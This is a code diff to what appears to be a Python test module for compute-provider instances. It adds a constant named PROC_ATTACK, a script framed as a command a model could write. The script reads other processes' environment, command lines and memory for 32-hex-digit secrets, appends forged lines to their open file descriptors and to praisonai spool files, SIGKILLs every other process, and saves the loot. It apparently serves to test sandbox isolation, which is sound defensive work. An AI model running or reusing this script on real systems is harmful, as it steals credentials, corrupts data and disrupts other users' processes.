@@ -32,6 +32,74 @@ Instance = tuple[ComputeProvider, str]
 SECRET = b"HOST-SECRET"
 
 
+#: A command as the model could write it, in Python (every image of ours has it): for argv[1]
+#: seconds it writes into every file descriptor it can open under ``/proc/*/fd`` and into every
+#: file of a praisonai spool it can reach (``/tmp/.praisonai*``), reads every ``/proc/*/environ``,
+#: ``cmdline`` and ``mem`` it can, and SIGKILLs every pid but its own and its parent's; then it
+#: writes what could be a secret (32 hex digits) to the file argv[2] and prints "<writes> <found>".
+#: Its opens do not block, so a FIFO without a reader cannot stall it.
+PROC_ATTACK = r"""
+import os, re, signal, sys, time
+me, end, forged, loot = os.getpid(), time.time() + float(sys.argv[1]), 0, set()
+def keep(data):  # every secret we look for is 32 hex digits: what could be one is kept
+    loot.update(re.findall(rb"[0-9a-f]{32}", data))
+def grab(path):
+    try:
+        with open(path, "rb") as f:
+            keep(f.read(1 << 20))
+    except OSError:
+        pass
+def memory(pid):
+    try:
+        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
+            for line in maps:
+                span, perms = line.split()[:2]
+                lo, hi = (int(x, 16) for x in span.split("-"))
+                if "r" in perms:
+                    try:
+                        mem.seek(lo); keep(mem.read(min(hi - lo, 4 << 20)))
+                    except (OSError, ValueError, OverflowError):
+                        pass
+    except OSError:
+        pass
+def forge(path):
+    global forged
+    try:
+        f = os.open(path, os.O_WRONLY | os.O_APPEND | os.O_NONBLOCK | os.O_NOCTTY)
+    except OSError:
+        return
+    try:
+        os.write(f, b"FORGED\n D x 0 0 FORGED\n"); forged += 1
+    except OSError:
+        pass
+    os.close(f)
+def spools():
+    for top in [f"/tmp/{n}" for n in os.listdir("/tmp") if n.startswith(".praisonai")]:
+        for folder, _, names in os.walk(top):
+            for name in names:
+                grab(f"{folder}/{name}"); forge(f"{folder}/{name}")
+while time.time() < end:
+    spools()
+    for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) not in (me, os.getppid())]:
+        try:
+            fds = os.listdir(f"/proc/{pid}/fd")
+        except OSError:
+            fds = []
+        for fd in fds:
+            forge(f"/proc/{pid}/fd/{fd}")
+        for name in ("environ", "cmdline"):
+            grab(f"/proc/{pid}/{name}")
+        memory(pid)
+        try:
+            os.kill(int(pid), signal.SIGKILL)
+        except OSError:
+            pass
+with open(sys.argv[2], "wb") as out:
+    out.write(b"\n".join(loot))
+print(forged, len(loot))
+"""
+
+
 def provisioned(provider: ComputeProvider) -> Iterator[Instance]:
     """Yield ``(provider, instance_id)`` of a new instance, removed afterwards whatever happens."""
     info = _portal.call(provider.provision)
